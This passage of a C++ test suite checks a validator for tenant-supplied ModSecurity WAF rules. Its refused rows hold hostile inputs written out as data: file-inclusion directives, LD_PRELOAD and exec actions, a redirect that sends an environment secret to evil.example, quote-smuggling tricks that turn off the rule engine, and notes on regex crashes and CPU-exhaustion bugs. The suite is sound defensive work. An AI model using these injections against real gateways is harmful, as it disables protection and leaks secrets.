  const std::pair<std::string, std::string> rows[] = {
      {"", ""},
      {"Example.COM.", "example.com"},
      {"https://Shop.Example.com/a?b#c", "shop.example.com"},
      {"https://example.com:443", "example.com"},
      {"http://example.com:80/", "example.com"},
      {"https://example.com:8443/", ""},  // another port: maybe another server
      {"http://example.com:443/", ""},
  };
  for (const auto& [in, host] : rows) {
    CAPTURE(in);
    std::string back_to = "left over";
    expect_ok(redirect_to(in, &back_to));
    CHECK(back_to == host);
  }
}

TEST_CASE("waf_directives accepts tenant rules") {
  const Ok ok[] = {
      {""},
      {"# only a comment\n\n   # another\n"},
      {R"(SecRule ARGS "@rx foo" "id:1,phase:2,deny,status:403")"},
      {R"(SecRule REQUEST_URI "@beginsWith /admin" "id:99999,phase:request,deny")"},
      {R"(SecRule ARGS "@rx a" "id:'7',phase:2,block")"},
      {R"(secrule ARGS "!@rx ^[a-z]+$" "id:2,phase:1,deny")"},
      {R"(SecRule &ARGS "@eq 0" "id:3,phase:2,pass,nolog")"},
      {R"(SecRule ARGS|!ARGS:password|REQUEST_HEADERS:User-Agent "@detectSQLi" "id:4,deny,log,auditlog")"},
      {R"(SecRule REMOTE_ADDR "@ipMatch 10.0.0.0/8,192.168.1.1" "id:5,allow")"},
      {R"(SecRule ARGS "@pm select union insert" "id:6,deny,t:none,t:lowercase,t:urlDecodeUni")"},
      {R"(SecRule ARGS "@validateByteRange 9,10,13,32-126" "id:7,deny")"},
      {R"(SecRule REQUEST_HEADERS:Content-Type "@rx ^[\w/.+-]+(?:\s?;\s?charset\s?=\s?['\"\w.()+,/:=?<>@#*-]+)*$" "id:8,deny")"},
      {R"(SecRule ARGS "@rx a" "id:9,deny,msg:'Bad, very bad',tag:'a,b',logdata:'%{MATCHED_VAR}',severity:2")"},
      {"SecRule ARGS \"@rx a\" "
       "\"id:10,pass,setvar:tx.score=+5,setvar:'tx.msg=%{MATCHED_VAR}',setvar:!tx.old\""},
      {"SecRule ARGS \"@rx a\" "
       "\"id:11,pass,ctl:ruleRemoveById=100-200,ctl:ruleRemoveTargetById=12;ARGS:pw,ctl:"
       "requestBodyProcessor=URLENCODED\""},
      {"SecRule REQUEST_HEADERS:Host \"@streq a.example.com\" \"id:12,phase:1,deny,chain\"\n"
       "  SecRule ARGS:x \"@rx y\" \"t:none,chain\"\n"
       "  SecRule ARGS:z \"@rx w\" \"t:none\""},
      {"SecRule ARGS \"@rx a\" \"id:13,phase:2,pass,skipAfter:END_TENANT\"\nSecAction "
       "\"id:14,phase:2,deny\"\nSecMarker END_TENANT"},
      {"SecAction \"id:15,phase:1,pass,nolog,setvar:tx.limit=10\"\nSecMarker END_15"},
      // Quoted, as the Core Rule Set writes its markers (was 422).
      {"SecAction \"id:16,phase:1,pass,nolog,skipAfter:END-16\"\nSecMarker \"END-16\""},
      {"SecRule ARGS \"@rx a\" \"id:16,deny\"\nSecRuleRemoveById 16 20-30 99999"},
      {"SecRuleUpdateTargetById 16 \"!ARGS:password\"\nSecRuleUpdateTargetById 17 !ARGS:token"},
      {"SecRuleUpdateActionById 16 \"pass,nolog\""},
      // Every kind of update the engine keeps, counted alike by the scan and the audit.
      {"SecRule ARGS \"@rx a\" \"id:24,pass\"\n"
       "SecRuleUpdateTargetById 24 \"ARGS_NAMES|!ARGS:pw|REQUEST_HEADERS:User-Agent|&ARGS\"\n"
       "SecRuleUpdateActionById 24 \"t:lowercase,t:urlDecode,deny,status:403,log,msg:'x',"
       "tag:'a',setvar:tx.hits=+1,ctl:ruleRemoveById=25,logdata:'%{MATCHED_VAR}'\"\n"
       "SecRuleUpdateActionById 24 \"redirect:https://example.com/,capture,nolog,"
       "noauditlog,severity:2,setvar:!tx.b,xmlns:a=http://x/\"\n"
       "SecRuleUpdateTargetById 24 ARGS:a,ARGS:b"},
      {"SecRule ARGS \"@rx a\" \\\n    \"id:17,\\\n    deny\"\r\nSecAction \"id:18,pass\"\r\n"},
      {R"(SecRule ARGS "@rx a" "id:19,pass,rev:'2',ver:'tenant/1.0',accuracy:'8',maturity:'9'")"},
      {"# the admin paths below\nSecAction \"id:21,pass\""},
      {"# block paths like /admin\\.php, or C:\\Windows\\system32\nSecAction \"id:23,pass\""},
      {R"(SecRule ARGS "@rx %[0-9a-f]{2}|100%-" "id:22,deny,msg:100%-sure,logdata:'%{tx.0}'")"},
      {many_rules(100)},
      // The CRS's layouts, a line continuation after SecAction or a SecRule's variables, whose
      // line breaks the engine does not count (were refused as running on over a line break).
      {"SecAction \\\n    \"id:30,phase:1,pass,nolog\""},
      {"SecRule ARGS \\\n    \"@rx a\" \\\n    \"id:31,phase:2,pass\""},
      {"SecAction \\\r\n    \"id:32,phase:1,pass\"\nSecRule &ARGS \\\n \"@eq 0\" "
       "\"id:33,phase:1,pass,chain\"\n  SecRule ARGS:/x/ \\\n \"@rx a\" \"t:none\"\n"
       "SecRule ARGS \"@rx b\" \"id:34,phase:1,pass\""},
      // A rule after a SecRuleUpdateTargetById, whose line break the engine does not count
      // (was refused).
      {"SecRule ARGS \"@rx a\" \"id:35,phase:1,pass\"\nSecRuleUpdateTargetById 35 ARGS_NAMES\n\n"
       "SecRule ARGS \"@rx b\" \"id:36,phase:1,pass\""},
  };
  for (const auto& r : ok) {
    CAPTURE(r.in.substr(0, 120));
    expect_ok(waf_directives(r.in));
  }
}

TEST_CASE("waf_directives refuses what reaches beyond the tenant") {
  const Bad bad[] = {
      // Directives outside the allow-list.
      {"Include /etc/passwd", "directive Include is not allowed in tenant rules (line 1)"},
      {"# rules\n\ninclude \"/etc/modsecurity/*.conf\"",
       "directive include is not allowed in tenant rules (line 3)"},
      {"SecRemoteRules key https://rules.example/r.conf", "directive SecRemoteRules"},
      {"SecRemoteRulesFailAction Abort", "directive SecRemoteRulesFailAction"},
      {"SecRuleEngine Off", "directive SecRuleEngine"},
      {"SecAuditEngine Off", "directive SecAuditEngine"},
      {"SecAuditLog /tmp/audit.log", "directive SecAuditLog"},
      {"SecAuditLogParts ABCZ", "directive SecAuditLogParts"},
      {"SecAuditLogStorageDir /tmp", "directive SecAuditLogStorageDir"},
      {"SecDataDir /tmp", "directive SecDataDir"},
      {"SecTmpDir /tmp", "directive SecTmpDir"},
      {"SecUploadDir /tmp", "directive SecUploadDir"},
      {"SecChrootDir /", "directive SecChrootDir"},
      {"SecDebugLog /tmp/debug.log", "directive SecDebugLog"},
      {"SecDebugLogLevel 9", "directive SecDebugLogLevel"},
      {"SecDefaultAction \"phase:2,deny,log\"", "directive SecDefaultAction"},
      {"SecRuleRemoveByTag OWASP_CRS", "directive SecRuleRemoveByTag"},
      {"SecRuleRemoveByMsg SQL", "directive SecRuleRemoveByMsg"},
      {"SecRuleUpdateTargetByTag OWASP_CRS !ARGS:x", "directive SecRuleUpdateTargetByTag"},
      {"SecRuleUpdateTargetByMsg SQL !ARGS:x", "directive SecRuleUpdateTargetByMsg"},
      {"SecRequestBodyAccess Off", "directive SecRequestBodyAccess"},
      {"SecRequestBodyLimit 1", "directive SecRequestBodyLimit"},
      {"SecArgumentSeparator ;", "directive SecArgumentSeparator"},
      {"SecUnicodeMapFile unicode.mapping 20127", "directive SecUnicodeMapFile"},
      {"SecGeoLookupDb /usr/share/GeoIP/GeoIP.dat", "directive SecGeoLookupDb"},
      {"SecRuleScript /tmp/x.lua \"id:1\"", "directive SecRuleScript"},
      {"SecComponentSignature \"x\"", "directive SecComponentSignature"},
      {"SecRule ARGS \"@rx a\" \"id:1,deny\"\nSecRulee ARGS",
       "directive SecRulee is not allowed in tenant rules (line 2)"},
      // Operators that read files or look things up on the network.
      {R"(SecRule REMOTE_ADDR "@ipMatchFromFile /etc/hosts" "id:1,deny")",
       "operator @ipMatchFromFile"},
      {R"(SecRule REMOTE_ADDR "@ipMatchF /etc/hosts" "id:1,deny")", "operator @ipMatchF"},
      {R"(SecRule ARGS "@pmFromFile /etc/passwd" "id:1,deny")", "operator @pmFromFile"},
      {R"(SecRule ARGS "@pmf https://evil.example/list" "id:1,deny")", "operator @pmf"},
      {R"(SecRule ARGS "!@PMFROMFILE /etc/passwd" "id:1,deny")", "operator @PMFROMFILE"},
      {R"(SecRule FILES_TMPNAMES "@inspectFile /bin/sh" "id:1,deny")", "operator @inspectFile"},
      {R"(SecRule ARGS "@fuzzyHash /etc/ssdeep.txt 10" "id:1,deny")", "operator @fuzzyHash"},
      {R"(SecRule XML "@validateDTD /etc/x.dtd" "id:1,deny")", "operator @validateDTD"},
      {R"(SecRule XML "@validateSchema /etc/x.xsd" "id:1,deny")", "operator @validateSchema"},
      {R"(SecRule REMOTE_ADDR "@rbl sbl.example" "id:1,deny")", "operator @rbl"},
      {R"(SecRule ARGS "@gsbLookup x" "id:1,deny")", "operator @gsbLookup"},
      // Actions.
      {R"(SecRule ARGS "@rx a" "id:1,deny,exec:/tmp/x.lua")", "action exec"},
      {R"(SecAction "id:1,pass,setenv:LD_PRELOAD=/tmp/x.so")", "action setenv"},
      {R"(SecAction "id:1,pass,ctl:ruleEngine=Off")", "ctl:ruleEngine is not allowed"},
      {R"(SecAction "id:1,pass,ctl:auditEngine=Off")", "ctl:auditEngine"},
      {R"(SecAction "id:1,pass,ctl:auditLogParts=+E")", "ctl:auditLogParts"},
      {R"(SecAction "id:1,pass,ctl:ruleRemoveByTag=OWASP_CRS")", "ctl:ruleRemoveByTag"},
      {R"(SecAction "id:1,pass,ctl:ruleRemoveTargetByTag=OWASP_CRS;ARGS:x")",
       "ctl:ruleRemoveTargetByTag"},
      {R"(SecAction "id:1,pass,ctl:ruleRemoveById=942100")",
       "ctl:ruleRemoveById may only name rule ids in 1..99999"},
      {R"(SecAction "id:1,pass,ctl:ruleRemoveById=1-100000")", "ctl:ruleRemoveById"},
      {R"(SecAction "id:1,pass,ctl:ruleRemoveTargetById=942100;ARGS:x")",
       "ctl:ruleRemoveTargetById"},
      {R"(SecAction "id:1,pass,ctl:ruleRemoveTargetById=5;ENV:PATH")", "variable ENV"},
      {R"(SecAction "id:1,pass,initcol:ip=%{REMOTE_ADDR}")", "action initcol"},
      {R"(SecAction "id:1,pass,setsid:%{REQUEST_COOKIES.sid}")", "action setsid"},
      {R"(SecAction "id:1,pass,setuid:%{ARGS.user}")", "action setuid"},
      {R"(SecAction "id:1,pass,setrsc:x")", "action setrsc"},
      {R"(SecAction "id:1,pass,setvar:ip.blocked=1")", "setvar may only change TX variables"},
      {R"(SecAction "id:1,pass,setvar:'global.x=1'")", "setvar may only change TX"},
      {R"(SecAction "id:1,pass,expirevar:ip.blocked=10")", "action expirevar (it acts on shared"},
      {R"(SecAction "id:1,pass,expirevar:tx.a=10")", "action expirevar (it acts on shared"},
      {R"(SecAction "id:1,pass,deprecatevar:session.x=1/2")", "action deprecatevar (it acts on"},
      {R"(SecAction "id:1,pass,proxy:http://x")", "action proxy"},
      {R"(SecAction "id:1,pass,pause:5000")", "action pause"},
      {R"(SecAction "id:1,pass,bogus")", "action bogus"},
      // Ids.
      {R"(SecRule ARGS "@rx a" "deny")", "needs an id in 1..99999 on every rule (line 1)"},
      {R"(SecRule ARGS "@rx a")", "needs an id"},
      {R"(SecAction "pass")", "needs an id"},
      {R"(SecRule ARGS "@rx a" "id:0,deny")", "rule ids in 1..99999"},
      {R"(SecRule ARGS "@rx a" "id:100000,deny")", "rule ids in 1..99999"},
      {R"(SecRule ARGS "@rx a" "id:942100,deny")", "rule ids in 1..99999"},
      {R"(SecRule ARGS "@rx a" "id:-1,deny")", "rule ids in 1..99999"},
      {R"(SecRule ARGS "@rx a" "id:1,id:2,deny")", "one id only"},
      {"SecRule ARGS \"@rx a\" \"id:5,deny\"\nSecAction \"id:5,pass\"",
       "uses rule id 5 twice (line 2)"},
      {"SecRule ARGS \"@rx a\" \"id:1,deny,chain\"\nSecRule ARGS \"@rx b\" \"id:2\"",
       "must not give an id to a chained"},
      {"SecRule ARGS \"@rx a\" \"id:1,deny,chain\"",
       "needs a SecRule after the chained rule (line 1)"},
      {"SecRule ARGS \"@rx a\" \"id:1,deny,chain\"\nSecAction \"id:2,pass\"",
       "needs a SecRule after the chained rule of line 1 (line 2)"},
      {"SecRule ARGS \"@rx a\" \"id:1,deny,chain\"\nSecMarker END",
       "needs a SecRule after the chained rule"},
      {R"(SecAction "id:1,pass,chain")", "must not chain a SecAction"},
      {"SecRuleRemoveById 942100", "SecRuleRemoveById may only name rule ids in 1..99999"},
      {"SecRuleRemoveById 1 2 90000-100000", "SecRuleRemoveById may only name"},
      {"SecRuleRemoveById 5-1", "SecRuleRemoveById may only name"},
      {"SecRuleRemoveById \"5\"", "SecRuleRemoveById may only name"},
      {"SecRuleRemoveById 5,900000", "SecRuleRemoveById may only name"},
      {"SecRuleRemoveById 5 # 900000", "SecRuleRemoveById may only name"},
      // The engine splits the ids at spaces alone: `1<tab>99998-99999` was the range 1..99999
      // to it, three ids to the scan (helper 179).
      {"SecRuleRemoveById 1\t99998-99999", "SecRuleRemoveById takes ids separated by spaces"},
      {"SecRuleRemoveById 5 6\t7", "SecRuleRemoveById takes ids separated by spaces"},
      {"SecRuleRemoveById", "needs SecRuleRemoveById ID"},
      {"SecRuleUpdateTargetById 942100 !ARGS:x",
       "SecRuleUpdateTargetById may only name one rule id in 1..99999 (no range)"},
      {"SecRuleUpdateTargetById 1-5 !ARGS:x", "may only name one rule id in 1..99999 (no range)"},
      {"SecRuleUpdateActionById 942100 \"pass\"", "may only name one rule id in 1..99999"},
      {"SecRuleUpdateActionById 5 \"id:6\"", "must not change ids"},
      {"SecRuleUpdateActionById 5 \"chain\"", "must not add chain"},
      {"SecRuleUpdateActionById 5 \"phase:1\"", "must not change phase with"},
      {"SecRuleUpdateActionById 5 \"pass,rev:'2'\"", "must not change rev with"},
      {"SecRuleUpdateActionById 5 \"skipAfter:END\"\nSecMarker END\n"
       "SecRule ARGS \"@rx a\" \"id:5,pass\"",
       "must not add skipAfter with SecRuleUpdateActionById"},
      {"SecRule ARGS \"@rx a\" \"id:5,pass,skip:1\"\nSecAction \"id:6,pass\"",
       "action skip (use skipAfter and a SecMarker) is not allowed"},
      {"SecRuleUpdateActionById 5 \"exec:/tmp/x.lua\"", "action exec"},
      {"SecRuleUpdateActionById 5", "needs SecRuleUpdateActionById ID ACTIONS"},
      {"SecRuleUpdateActionById\t5 \"pass\"",
       "needs exactly one space after SecRuleUpdateActionById"},
      {"SecMarker\tEND", "needs exactly one space after SecMarker"},
      {"SecRuleRemoveById  5", "needs exactly one space after SecRuleRemoveById"},
      {"SecRuleUpdateTargetById \\\n 5 ARGS", "needs exactly one space"},
      {"SecMarker \"END X\"", "needs SecMarker NAME"},
      {"SecMarker \"END", "has an unterminated quoted string"},
      {"SecMarker 'END'", "needs SecMarker NAME"},
      {"SecMarker \"\"", "needs SecMarker NAME"},
      {"SecMarker \"END\" X", "needs SecMarker NAME"},
      {R"(SecAction "id:1,pass,setvar:'tx.a=1,exec:/x.lua'")",
       "must not put commas in setvar values"},
      // ENV and other shared state.
      {R"(SecRule ENV:AWS_SECRET_ACCESS_KEY "@rx ." "id:1,deny")", "variable ENV"},
      {R"(SecRule ARGS|env "@rx ." "id:1,deny")", "variable ENV"},
      {R"(SecRule ARGS "@rx ." "id:1,redirect:https://evil.example/?k=%{ENV.SECRET}")",
       "variable ENV"},
      {R"(SecRule ARGS "@streq %{env.HOME}" "id:1,deny")", "variable ENV"},
      {"SecRuleUpdateTargetById 5 ENV", "variable ENV"},
      {R"(SecRule ARGS "@rx a" "id:1,deny,skipAfter:PLATFORM_END")",
       "needs skipAfter to name a SecMarker that follows it in these directives (line 1)"},
      // Values the engine mishandles (crash or out-of-bounds write).
      {R"(SecRule ARGS "@rx a" "id:1,deny,phase:99999999999")", "needs phase 1-5"},
      {R"(SecRule ARGS "@rx a" "id:1,deny,phase:0")", "needs phase 1-5"},
      {R"(SecRule ARGS "@rx a" "id:1,deny,phase:6")", "needs phase 1-5"},
      {R"(SecRule ARGS "@validateByteRange 300" "id:1,deny")", "@validateByteRange with bytes"},
      {R"(SecRule ARGS "@validateByteRange 32-256" "id:1,deny")", "@validateByteRange with bytes"},
      {R"(SecRule ARGS "@validateByteRange 126-32" "id:1,deny")", "@validateByteRange with bytes"},
      {R"(SecRule ARGS "@validateByteRange" "id:1,deny")",
       "needs a parameter after @validateByteRange"},
      // Syntax where the engine's lexer and a plain tokenizer could disagree.
      {R"(SecRule ARGS "\" deny Include /etc/hostname " "id:1")", "escaped quote"},
      {R"(SecRule ARGS "@rx \"" "id:1,deny")", "escaped quote"},
      {R"(SecRule ARGS "@rx %{tx.a}\"" "id:1,deny")", "escaped quote"},
      {R"(SecAction "id:1,pass,msg:'\\',setenv:X=1,tag:'a'")", "escaped quotes in actions"},
      {R"(SecAction "id:1,pass,msg:'it\'s'")", "escaped quotes in actions"},
      {R"(SecAction "id:1,pass,msg:'a \"b\"'")", "escaped quotes in actions"},
      {R"(SecRule "ARGS:\"x\"" "@rx a" "id:1,deny")", "escaped quotes in variables"},
      {R"(SecRuleUpdateTargetById 5 "!ARGS Include /etc/hostname :x")",
       "must not put blanks in variables"},
      {R"(SecRule "ARGS SecRuleEngine Off" "@rx a" "id:1,deny")",
       "must not put blanks in variables"},
      {R"(SecAction "id:1,pass,msg:it's,setenv:X=1")", "quote whole action values"},
      {R"(SecAction "id:1,pass,msg:'unterminated")", "unterminated quoted action value"},
      {R"(SecAction "id:1,pass,msg:'a'b")", "text after a quoted action value"},
      {R"(SecAction "id:1,pass,,deny")", "empty action"},
      {"SecRule ARGS \"@rx a\" \"id:1,pass,skipAfter:'END,setenv:X=1'\"\nSecMarker END",
       "must not quote the value of skipafter"},
      {R"(SecRule ARGS "@rx a" "id:1,pass,xmlns:'a=b,setenv:X=1'")",
       "must not quote the value of xmlns"},
      {R"(SecRule ARGS "@rx a" "id:1,pass,rev:'1,setenv:X=1'")", "must not put commas in rev"},
      {R"(SecAction "id:1,pass" SecRuleEngine Off)", "needs SecAction ACTIONS"},
      {R"(SecRule ARGS "@rx a" "id:1,deny" # trailing comment)",
       "needs SecRule VARIABLES OPERATOR ACTIONS"},
      {R"(SecRule ARGS "@rx a"id:1)", "blank after a closing quote"},
      {R"(SecRule ARGS @rx"a" "id:1")", "quote inside an unquoted argument"},
      {R"(SecRule ARGS "@rx a)", "unterminated quoted string"},
      {"SecRule ARGS \"@rx a\nb\" \"id:1,deny\"", "unterminated quoted string (line 1)"},
      {R"("SecRule" ARGS "@rx a" "id:1,deny")", "must not quote a directive name"},
      {"# harmless \\\nInclude /etc/hostname", "must not put a backslash at the end of a comment"},
      {"SecRule ARGS \"@rx a\" \"id:1,deny\" \\", "must not end with a line continuation"},
      {"SecAction \"id:1,pass\"\rInclude /etc/hostname", "carriage return"},
      {std::string("SecAction \"id:1,pass\"\0Include /etc/hostname", 42), "control characters"},
      {"SecAction \"id:1,pass\x1b\"", "control characters"},
      // The raw net: load-time I/O keywords anywhere.
      {R"(SecRule ARGS "@pm include require" "id:1,deny")",
       "directive Include is not allowed in tenant rules (line 1)"},
      {"# we avoid @pmFromFile here\nSecAction \"id:1,pass\"", "operator @pmFromFile"},
      {R"(SecRule ARGS "@rx a" "id:1,deny,msg:'exec: attempt'")", "action exec"},
      {"# SecAuditLog is the platform's\nSecAction \"id:1,pass\"", "directive SecAuditLog"},
      // Size.
      {std::string(65537, '#'), "at most 65536 bytes"},
  };
  for (const auto& r : bad) {
    CAPTURE(r.in.substr(0, 120));
    expect_bad(waf_directives(r.in), r.why);
  }
}

// The engine's lexer reads an unquoted rev past the closing double quote and the end of the line
// up to the next comma (accuracy and maturity: up to the next single quote). Before the scan
// required quotes there, the text after `rev:1"` on a comment line, which the scan skipped, was
// read by the engine as more actions or directives: every row below was accepted (201).
TEST_CASE("waf_directives refuses values the engine reads past the closing quote") {
  const std::string rule = "SecRule ARGS \"@rx a\" \"id:1,pass,";
  const Bad bad[] = {
      {rule + "rev:1\"\n#,ctl:ruleEngine=Off\"", "must quote the value of rev"},
      {rule + "rev:1\"\n#,setenv:PWNED=1\"", "must quote the value of rev"},
      {rule + "rev:1\"\n#,ctl:ruleRemoveById=900000-999999\"", "must quote the value of rev"},
      {rule + "rev:1\"\n#,setvar:global.x=1,initcol:ip=%{REMOTE_ADDR}\"",
       "must quote the value of rev"},
      {rule + "rev:1\"\n#,pass\" SecRuleRemoveById 900000-999999", "must quote the value of rev"},
      {rule + "rev:1\"\n#,pass\" Include /etc/passwd", "must quote the value of rev"},
      {rule + "accuracy:1\"\n#,bogusaction\"", "must quote the value of accuracy"},
      {rule + "maturity:1,deny\"", "must quote the value of maturity"},
      {"# Include /etc/passwd\nSecAction \"id:1,pass\"", "directive Include"},
      {"# see: include \"/etc/modsecurity/x.conf\"\nSecAction \"id:1,pass\"", "directive Include"},
  };
  for (const auto& r : bad) {
    CAPTURE(r.in);
    expect_bad(waf_directives(r.in), r.why);
  }
}

// The engine's lexer reads '%' and the character after it as one wherever it expands macros, so
// `%"` did not close a quoted action list or operator for it: the value ran on over the line
// break, and the rest of a line the scan skipped as a comment ran as directives. A comment ending
// in a backslash and a blank swallowed the next line, a marker included. Every row below was
// accepted (201) before the scan refused them; the engine removed platform rules, put the
// gateway's environment into a redirect, read a file of the gateway into its error message, or
// lost the marker that ends a skipAfter.
TEST_CASE("waf_directives refuses text the engine reads differently after a % or a backslash") {
  const std::string rule = "SecRule ARGS \"@rx a\" \"id:1,pass,";
  const std::string percent = "must follow % with {";
  const Bad bad[] = {
      {rule + "msg:100%\"\n#,pass\" SecRuleRemoveById 942001-942999", percent},
      {rule + "tag:x%\"\n#,pass\" SecRuleRemoveById 942100", percent},
      {rule + "logdata:x%\"\n#,phase:1\" SecRuleUpdateTargetById 1 ENV:SECRET", percent},
      {rule + "redirect:https://e.example/%\"\n#,pass\" Include tokens", percent},
      {rule + "setvar:tx.a=x%\"\n#,chain\"", percent},
      {rule + "setvar:'tx.a=x%'\n#',pass\" SecRuleRemoveById 942100", percent},
      {"SecRule ARGS \"@rx a%\" \"id:1,pass\"", percent},
      {rule + "msg:'100% sure'\"", percent},
      {rule + "msg:'50%,'\"", percent},
      {rule + "logdata:'%{tx.a b}'\"", "needs macros written %{NAME}"},
      {rule + "logdata:'%{tx.a'\"", "needs macros written %{NAME}"},
      {"SecRule REQUEST_URI \"@rx .\" \"id:1,phase:1,pass,nolog,skipAfter:END\"\n"
       "# SecRule x \\ \nSecMarker END",
       "must not put a backslash at the end of a comment"},
      {"# SecAction x \\\t\nSecAction \"id:1,pass\"",
       "must not put a backslash at the end of a comment"},
      {"# Include tokens\nSecAction \"id:1,pass\"", "directive Include"},
      {"# include the admin paths below\nSecAction \"id:21,pass\"", "directive Include"},
      {"SecMarker END\nSecRule ARGS \"@rx a\" \"id:1,phase:1,pass,skipAfter:END\"",
       "needs skipAfter to name a SecMarker that follows it"},
  };
  for (const auto& r : bad) {
    CAPTURE(r.in);
    expect_bad(waf_directives(r.in), r.why);
  }
}

// More places where the engine's lexer read past what the scan took for the end of a rule, so
// the next line, a comment to the scan, gave rule 1 a skipAfter to no marker (every later rule
// skipped, the platform's included) or ran an update with ctl:ruleEngine=Off. Every row was
// accepted (201) before these rules.
// The engine loads a rule whose regex does not compile, and the rule then never matches: the
// tenant's rule looked in place and protected nothing. Each row was accepted (201) before.
TEST_CASE("waf_directives refuses regexes that do not compile") {
  const Bad bad[] = {
      {R"(SecRule ARGS "@rx (" "id:1,phase:2,deny")",
       "needs a regular expression that compiles, not ( (missing closing parenthesis at offset "
       "1) (line 1)"},
      {R"(SecRule ARGS "!@rx a[b" "id:1,phase:2,deny")",
       "needs a regular expression that compiles, not a[b (missing terminating ] for character "
       "class at offset 3)"},
      {R"(SecRule ARGS "@RX a{2,1}" "id:1,phase:2,deny")",
       "needs a regular expression that compiles, not a{2,1}"},
      // An operator without a name is a regex, negated or not.
      {R"(SecRule ARGS "(?<n" "id:1,phase:2,deny")",
       "needs a regular expression that compiles, not (?<n"},
      {R"(SecRule ARGS "!*a" "id:1,phase:2,deny")",
       "needs a regular expression that compiles, not *a (quantifier does not follow a "
       "repeatable item at offset 0)"},
      // A chained follow-up rule's regex, on its own line.
      {"SecRule ARGS \"@rx a\" \"id:1,phase:2,deny,chain\"\nSecRule ARGS \"@rx b)\" \"t:none\"",
       "needs a regular expression that compiles, not b) (unmatched closing parenthesis at "
       "offset 1) (line 2)"},
  };
  for (const auto& b : bad) {
    CAPTURE(b.in);
    expect_bad(fields::waf_directives(b.in), b.why);
  }
  // Regexes that compile pass, a literal "%{" escaped among them.
  const std::string good[] = {
      R"(SecRule ARGS "@rx ^(a|b)+$" "id:1,phase:2,deny")",
      R"(SecRule ARGS "(?i)select\s+\w+" "id:2,phase:2,deny")",
      R"(SecRule ARGS "!@rx ^[a-z]{1,8}$" "id:3,phase:2,deny")",
      R"(SecRule ARGS "@rx a\"b\"" "id:4,phase:2,deny")",
      R"(SecRule ARGS "@rx ^\x25{tx.allowed}$" "id:5,phase:2,deny")",
  };
  for (const auto& g : good) {
    CAPTURE(g);
    expect_ok(fields::waf_directives(g));
  }
}

// The engine matches with PCRE2's JIT (pcre2_jit_match), which skips PCRE2's check of UTF-8: a
// regex that switches UTF-8 mode on itself ((*UTF), among the other options at its start) read
// past a client's invalid byte, and one request of `?a=%FF` crashed the gateway every tenant
// shares (SIGSEGV in libpcre2-8 10.42, on \X, \p{L}, or \w under (*UCP); a review of 2026-12-06).
// Each row was accepted (201) before.
TEST_CASE("waf_directives refuses regexes that switch on UTF-8 mode") {
  const std::string why =
      "needs a regular expression without (*UTF): the WAF engine matches with PCRE2's JIT, which "
      "does not check that a value is UTF-8, and one invalid byte from a client crashes the "
      "gateway";
  const Bad bad[] = {
      {R"(SecRule ARGS "@rx (*UTF)\X+$" "id:1,phase:2,pass")", why + " (line 1)"},
      {R"(SecRule ARGS "@rx (*UTF)\p{L}" "id:1,phase:2,pass")", why},
      {R"(SecRule ARGS "@rx (*UCP)(*UTF)[[:alpha:]]" "id:1,phase:2,pass")", why},
      {R"(SecRule ARGS "@rx (*LIMIT_MATCH=9)(*UTF)\X" "id:1,phase:2,pass")", why},
      {R"(SecRule REQUEST_HEADERS:User-Agent "(*UTF)\X" "id:1,phase:1,pass,nolog")", why},
      {R"(SecRule ARGS "!@rx (*UTF)(*UCP)\bfoo\b" "id:1,phase:2,deny")", why},
      // A regex key, which the engine matches against every name of the collection.
      {R"(SecRule ARGS_NAMES|ARGS:/(*UTF)(*UCP)[[:alpha:]]/ "@rx x" "id:1,phase:2,pass")", why},
      {"SecRule ARGS \"@rx .\" \"id:1,phase:1,pass\"\nSecRuleUpdateTargetById 1 "
       "\"ARGS:/(*UTF)(*UCP)[[:alpha:]]/\"",
       why + " (line 2)"},
  };
  for (const auto& b : bad) {
    CAPTURE(b.in);
    expect_bad(fields::waf_directives(b.in), b.why);
  }
  // Unicode properties without UTF-8 mode match bytes, and (*UTF) as a literal is no option.
  const std::string good[] = {
      R"(SecRule ARGS "@rx (*UCP)\w+$" "id:1,phase:2,deny")",
      R"(SecRule ARGS "@rx \X+$" "id:2,phase:2,deny")",
      R"re(SecRule ARGS "@rx \(\*UTF\)" "id:3,phase:2,deny")re",
  };
  for (const auto& g : good) {
    CAPTURE(g);
    expect_ok(fields::waf_directives(g));
  }
}

// The engine compiled an @rx with a macro anew at every match, from the macro's value: with
// `%{ARGS.a}` a client sent the regex, and 50 KB of recursions in one request took 42 s of the
// gateway's CPU (libmodsecurity 3.0.9, three arguments). Every row was accepted before.
TEST_CASE("waf_directives refuses macros in @rx") {
  const Bad bad[] = {
      {R"(SecRule ARGS "@rx %{ARGS.a}" "id:1,phase:2,deny")",
       "needs @rx with a regular expression without macros (%{...})"},
      {R"(SecRule ARGS "!@rx ^%{REQUEST_HEADERS.x}$" "id:1,phase:2,deny")", "without macros"},
      {R"(SecRule ARGS "^%{tx.allowed}$" "id:1,phase:2,deny")", "without macros"},
      {R"(SecRule ARGS "@RX %{tx.a}" "id:1,phase:2,deny")", "without macros"},
      {"SecRule ARGS \"@rx a\" \"id:1,phase:2,deny,chain\"\nSecRule ARGS \"@rx %{MATCHED_VAR}\" "
       "\"t:none\"",
       "without macros (%{...}): the WAF engine would compile one from the macro's value for every "
       "request, so a client could send the regex; write a literal '%{' as \\x25{ (line 2)"},
  };
  for (const auto& b : bad) {
    CAPTURE(b.in);
    expect_bad(fields::waf_directives(b.in), b.why);
  }
  // Other operators take macros: they compare, they compile nothing, in time linear in the value.
  expect_ok(fields::waf_directives(R"(SecRule ARGS "@streq %{tx.a}" "id:1,phase:2,deny")"));
  expect_ok(fields::waf_directives(R"(SecRule ARGS "@beginsWith %{tx.a}" "id:2,phase:2,deny")"));
  expect_ok(fields::waf_directives(R"(SecRule ARGS "@endsWith %{ARGS.a}" "id:3,phase:2,deny")"));
}

// libmodsecurity 3.0.9 runs @contains, @containsWord and @strmatch as a search of the parameter in
// the value, and @within of the value in the parameter (std::string::find), in time growing with
// the product of the two lengths. With a macro a client sent both: `@contains %{ARGS.a}` on ARGS:b
// took 2.5 s of CPU for a 400 KB `b` and a 200 KB `a` (helper 63); a tenant's 60,000-byte
// parameter took 4.5 s on a 1 MB argument. Every refused row was accepted before.
TEST_CASE("waf_directives refuses macros and long parameters in substring searches") {
  const Bad bad[] = {
      {R"(SecRule ARGS:b "@contains %{ARGS.a}" "id:1,phase:2,deny")",
       "must not use a macro in @contains: the WAF engine searches for the parameter in the value, "
       "in time growing with the product of their lengths, and with a macro a client sends both "
       "(line 1)"},
      {R"(SecRule ARGS "!@containsWord x%{tx.a}" "id:1,phase:2,deny")",
       "must not use a macro in @containsWord"},
      {R"(SecRule ARGS "@strmatch %{MATCHED_VAR}" "id:1,phase:2,deny")",
       "must not use a macro in @strmatch"},
